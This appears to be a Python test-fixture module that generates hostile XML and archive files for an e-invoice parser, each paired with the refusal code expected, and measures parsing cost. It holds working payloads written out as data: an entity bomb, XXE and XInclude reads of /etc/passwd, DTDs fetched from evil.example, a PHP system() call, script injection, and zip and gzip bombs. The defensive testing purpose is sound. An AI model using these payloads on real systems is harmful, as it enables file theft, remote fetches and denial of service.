"""Files made to harm a reader, by name, with the refusal each must get. Run as a program it measures them."""

from __future__ import annotations

import base64
import gzip
import io
import json
import sys
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

from tests.einvoice.samples import PEPPOL, invoice_xml

MEGABYTE = 1024 * 1024
_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_ENTITY_BOMB = f'<!DOCTYPE x [<!ENTITY l0 "lol">{_LAUGHS}]>'
_UBL = "urn:oasis:names:specification:ubl:schema:xsd:"
_VALUE = "<cbc:ID>F-1001</cbc:ID>"


def _text() -> str:
    return invoice_xml().decode()


def _with(before: str = "", value: str = _VALUE, inside: str = "") -> bytes:
    return invoice_xml(before=before, inside=inside).decode().replace(_VALUE, value).encode()


def _zip() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("faktura.xml", b"0" * (20 * MEGABYTE))
    return packed.getvalue()


def _utf16_doctype(encoding: str, mark: bytes) -> bytes:
    text = _text().replace(
        'encoding="UTF-8"?>', 'encoding="UTF-16"?><!DOCTYPE Invoice SYSTEM "http://evil.example/x">'
    )
    return mark + text.encode(encoding)


def small() -> dict[str, tuple[bytes, str]]:
    """Name to content and expected refusal code, for files that fit in memory."""
    many = "".join(f' a{n}=""' for n in range(400_000))
    namespaces = "".join(f' xmlns:n{n}="u:{n}"' for n in range(150_000))
    return {
        "entity bomb": (_with(before=_ENTITY_BOMB, value="<cbc:ID>&l9;</cbc:ID>"), "DTD"),
        "quadratic entity": (_with(before=f'<!DOCTYPE x [<!ENTITY a "{"A" * 100_000}">]>'), "DTD"),
        "parameter entity": (
            _with(before='<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]>'),
            "DTD",
        ),
        "external dtd": (_with(before='<!DOCTYPE Invoice SYSTEM "http://evil.example/x.dtd">'), "DTD"),
        "external file entity": (
            _with(before='<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'),
            "DTD",
        ),
        "doctype in odd case": (_with(before="<!doctype Invoice>"), "DTD"),
        "utf-16 doctype little": (_utf16_doctype("utf-16-le", b"\xff\xfe"), "DTD"),
        "utf-16 doctype big": (_utf16_doctype("utf-16-be", b"\xfe\xff"), "DTD"),
        "utf-16 doctype unmarked": (_utf16_doctype("utf-16-le", b""), "DTD"),
        "utf-7": (_text().replace("UTF-8", "UTF-7").encode(), "ENCODING"),
        "ebcdic": (_text().replace("UTF-8", "cp037").encode("cp037"), "NOT_XML"),
        "utf-32": (b"\xff\xfe\x00\x00" + _text().encode("utf-32-le"), "ENCODING"),
        "lying declaration": (_text().replace("UTF-8", "UTF-16").encode(), "ENCODING"),
        "lying mark": (b"\xef\xbb\xbf" + _text().replace("UTF-8", "ISO-8859-1").encode(), "ENCODING"),
        "overlong utf-8": (invoice_xml().replace(b"F-1001", b"F\xc0\xaf1"), "ENCODING"),
        "undefined entity": (_with(value="<cbc:ID>&secret;</cbc:ID>"), "BROKEN_XML"),
        "xinclude": (
            _with(
                inside='<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
            ),
            "ACTIVE_CONTENT",
        ),
        "script": (_with(inside='<s xmlns="http://www.w3.org/1999/xhtml">alert(1)</s>'), "ACTIVE_CONTENT"),
        "svg": (_with(inside='<svg xmlns="http://www.w3.org/2000/svg" onload="x"/>'), "ACTIVE_CONTENT"),
        "stylesheet as document": (
            b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
            "ACTIVE_CONTENT",
        ),
        "deep nesting": ((f"{_DECLARATION}{'<a>' * 100_000}").encode(), "TOO_DEEP"),
        "just too deep": (_with(inside="<a>" * 64 + "</a>" * 64), "TOO_DEEP"),
        "two hundred thousand siblings": (_with(inside="<a/>" * 200_000), "TOO_MANY_ELEMENTS"),
        "a million siblings": (_with(inside="<a/>" * 1_000_000), "TOO_MANY_ELEMENTS"),
        "many attributes": (_with(inside=f"<a{many}/>"), "TOO_MANY_ATTRIBUTES"),
        "many namespaces": (_with(inside=f"<a{namespaces}/>"), "TOO_MANY_ATTRIBUTES"),
        "undeclared prefix": (_with(inside="<nobody:said/>"), "BROKEN_XML"),
        "duplicate attributes": (_with(inside='<a b="1" b="2"/>'), "BROKEN_XML"),
        "too large": (b"<" + b"a" * (6 * MEGABYTE), "TOO_LARGE"),
        "one long name": (b"<" + b"a" * (4 * MEGABYTE), "BROKEN_XML"),
        "one long text": (_with(inside=f"<cbc:Note>{'x' * (6 * MEGABYTE)}</cbc:Note>"), "TOO_LARGE"),
        "nul bytes": (invoice_xml().replace(b"F-1001", b"F\x001001"), "NOT_XML"),
        "only nul bytes": (b"\x00" * MEGABYTE, "NOT_XML"),
        "control sign": (invoice_xml().replace(b"F-1001", b"F\x081001"), "BROKEN_XML"),
        "empty": (b"", "EMPTY"),
        "only blanks": (b" \r\n\t" * 1000, "EMPTY"),
        "gzip bomb": (gzip.compress(b"0" * (20 * MEGABYTE)), "ARCHIVE"),
        "zip bomb": (_zip(), "ARCHIVE"),
        "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3", "PDF"),
        "pdf and xml in one": (_with(before="<!-- %PDF-1.7 -->"), "PDF"),
        "xml and zip in one": (invoice_xml() + _zip(), "ENCODING"),
        "two documents in one": (invoice_xml() + invoice_xml(), "BROKEN_XML"),
        "html": (b"<!DOCTYPE html><html><body>Faktura</body></html>", "HTML"),
        "xhtml": (b'<html xmlns="http://www.w3.org/1999/xhtml"/>', "HTML"),
        "php instruction": (_with(before='<?php system("id"); ?>'), "INSTRUCTIONS"),
        "instruction in a value": (_with(value="<cbc:ID>F-10<?x y?>01</cbc:ID>"), "INSTRUCTIONS"),
        "a thousand instructions": (_with(before="<?x y?>" * 1000), "INSTRUCTIONS"),
        "cut off": (invoice_xml()[:-400], "BROKEN_XML"),
        "wrong root": (b"<Invoice/>", "OTHER_SYNTAX"),
        "wrong namespace": (invoice_xml().replace(f"{_UBL}Invoice-2".encode(), b"urn:x"), "OTHER_SYNTAX"),
        "unknown customization": (invoice_xml(customization=PEPPOL + "#and-more"), "UNKNOWN_FORMAT"),
        "two totals": (
            _with(inside="").replace(
                b"</cbc:PayableAmount>", b"</cbc:PayableAmount><cbc:PayableAmount>1</cbc:PayableAmount>"
            ),
            "AMBIGUOUS",
        ),
        "field in a field": (_with(value="<cbc:ID>F<cbc:ID>1</cbc:ID></cbc:ID>"), "MALFORMED"),
        "endless number": (invoice_xml(payable="1e999999999"), "BAD_AMOUNT"),
        "not a number": (invoice_xml(payable="NaN"), "BAD_AMOUNT"),
        "foreign digits": (invoice_xml(payable="١٢٣"), "BAD_AMOUNT"),
        "picture": (base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"), "NOT_XML"),
        "soap envelope": (b'<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"/>', "ENVELOPE"),
        "digital post": (b'<Message xmlns="https://DigitalPost.dk/MeMo-1"/>', "OTHER_DOCUMENT"),
    }


def write_all(folder: Path) -> dict[str, str]:
    """All files in a folder; gives file name to expected refusal code, "" where it may be read."""
    contents = small() | {name: (content, "") for name, content in heavy().items()}
    for name, (content, _) in contents.items():
        (folder / name).write_bytes(content)
    with (folder / "a hundred megabytes").open("wb") as file:
        file.truncate(100 * MEGABYTE)
    return {name: code for name, (_, code) in contents.items()} | {"a hundred megabytes": "TOO_LARGE"}


def heavy() -> dict[str, bytes]:
    """Files as heavy as the limits allow: they may be read, but within the same time and memory."""
    attributes = "".join(f' b{n}=""' for n in range(199))
    wide = f"<a{attributes}/>"
    return {
        "full of attributes": _with(inside=wide * ((5 * MEGABYTE - 5000) // len(wide))),
        "full of elements": _with(inside='<a b="">c</a>d' * 99_000),
        "one long comment": _with(inside="<!--" + "-x" * (2 * MEGABYTE) + "-->"),
        "long note of spaces": _with(inside=f"<cbc:Note>{'= ' * (2 * MEGABYTE)}</cbc:Note>"),
    }


def _measured() -> Iterator[dict[str, object]]:
    from brobygger.einvoice import Refused, read_file

    for path in map(Path, sys.argv[1:]):
        started = time.process_time()
        try:
            read_file(path)
            code = "READ"
        except Refused as refused:
            code = refused.code
        yield {"name": path.name, "code": code, "seconds": time.process_time() - started}


if __name__ == "__main__":
    measured = list(_measured())
    # Not ru_maxrss: that one begins with what the process that started this one had used.
    status = Path("/proc/self/status").read_text()
    peak = int(status.partition("VmHWM:")[2].split()[0]) * 1024
    json.dump({"files": measured, "peak": peak}, sys.stdout)
